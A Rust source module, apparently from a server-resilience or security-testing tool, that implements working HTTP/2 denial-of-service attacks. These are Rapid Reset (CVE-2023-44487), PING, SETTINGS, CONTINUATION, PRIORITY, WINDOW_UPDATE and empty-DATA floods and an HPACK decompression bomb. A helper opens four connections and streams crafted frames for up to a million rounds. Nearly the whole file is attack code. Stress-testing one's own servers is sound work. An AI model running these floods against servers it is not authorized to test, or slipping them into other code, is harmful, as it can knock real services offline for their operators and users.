//! HTTP/2 frames at full speed.

use std::io;

use tokio::{io::AsyncWriteExt, net::tcp::OwnedReadHalf};

use super::{Attack, Fault};
use crate::{
    frames::{self, frame},
    target::Target,
};

/// CVE-2023-44487.
pub(crate) const RAPID_RESET: Attack = Attack::new("h2: rapid reset of streams", |target| {
    flood(target, |target, round| {
        let block = frames::stream_block(target.app, target.token.as_deref(), "quiet");
        let flags = frames::END_HEADERS | frames::END_STREAM;
        let mut bytes = Vec::new();
        for number in 0..50 {
            let stream = 1 + 2 * (50 * round + number);
            bytes.extend(frame(frames::HEADERS, flags, stream, &block));
            let cancel = 8_u32.to_be_bytes();
            bytes.extend(frame(frames::RST_STREAM, 0, stream, &cancel));
        }
        bytes
    })
});

/// Each is answered.
pub(crate) const PING: Attack = Attack::new("h2: PING flood", |target| {
    flood(target, |_, _| {
        frame(frames::PING, 0, 0, &[0; 8]).repeat(500)
    })
})
.below_us();

/// Each is answered.
pub(crate) const SETTINGS: Attack = Attack::new("h2: SETTINGS flood", |target| {
    flood(target, |_, round| {
        let window = [(frames::INITIAL_WINDOW_SIZE, 1000 + round)];
        frame(frames::SETTINGS, 0, 0, &frames::pairs(&window)).repeat(500)
    })
})
.below_us();

/// A block that never ends.
pub(crate) const CONTINUATION: Attack = Attack::new("h2: CONTINUATION flood", |target| {
    flood(target, |target, round| {
        let more = frames::field("x-more", &"y".repeat(900)).repeat(16);
        let more = frame(frames::CONTINUATION, 0, 1, &more).repeat(8);
        if round > 0 {
            return more;
        }
        let block = frames::stream_block(target.app, target.token.as_deref(), "quiet");
        let mut bytes = frame(frames::HEADERS, frames::END_STREAM, 1, &block);
        bytes.extend(more);
        bytes
    })
})
.below_us();

/// One large field in the table, then references to it: 4 KB for a byte.
pub(crate) const HPACK_BOMB: Attack = Attack::new("h2: HPACK bomb", |target| {
    flood(target, |target, round| {
        let mut block = frames::stream_block(target.app, target.token.as_deref(), "quiet");
        // A literal with indexing: it is entry 62 from now on.
        block.push(0x40);
        for text in ["x-bomb", &"z".repeat(3900)] {
            frames::integer(&mut block, text.len());
            block.extend(text.as_bytes());
        }
        block.resize(block.len() + 12_000, 0x80 | 62);
        let flags = frames::END_HEADERS | frames::END_STREAM;
        frame(frames::HEADERS, flags, 1 + 2 * round, &block)
    })
})
.below_us();

/// RUSTSEC-2026-0258: frames without data on an open stream.
pub(crate) const EMPTY_DATA: Attack = Attack::new("h2: empty DATA frames", |target| {
    flood(target, |target, round| {
        let data = frame(frames::DATA, 0, 1, &[]).repeat(1000);
        if round > 0 {
            return data;
        }
        let block = frames::stream_block(target.app, target.token.as_deref(), "quiet");
        let mut bytes = frame(frames::HEADERS, frames::END_HEADERS, 1, &block);
        bytes.extend(data);
        bytes
    })
})
.below_us();

/// Streams that never are, in a tree of priorities.
pub(crate) const PRIORITY: Attack = Attack::new("h2: PRIORITY flood", |target| {
    flood(target, |_, round| {
        let of = |number| {
            frame(
                frames::PRIORITY,
                0,
                1 + 2 * (500 * round + number),
                &[0, 0, 0, 0, 16],
            )
        };
        (0..500).flat_map(of).collect()
    })
})
.below_us();

/// Windows of one byte more.
pub(crate) const WINDOW_UPDATE: Attack = Attack::new("h2: WINDOW_UPDATE flood", |target| {
    flood(target, |_, _| {
        frame(frames::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(500)
    })
})
.below_us();

/// Four connections, each with frames by the number of the round; a new one where the server ends
/// it.
fn flood(target: &Target, frames: fn(&Target, u32) -> Vec<u8>) -> Vec<Fault> {
    target.swarm(4, move |target, _| async move {
        let socket = frames::connect(&target, &[]).await?;
        let (reader, mut writer) = socket.into_split();
        let writing = async {
            // Stream numbers end at 2^31, and no attack here lasts that long.
            for round in 0..1_000_000 {
                writer.write_all(&frames(&target, round)).await?;
            }
            Ok(())
        };
        tokio::select! { end = writing => end, end = discard(reader) => end }
    });
    Vec::new()
}

async fn discard(mut reader: OwnedReadHalf) -> io::Result<()> {
    tokio::io::copy(&mut reader, &mut tokio::io::sink()).await?;
    Ok(())
}
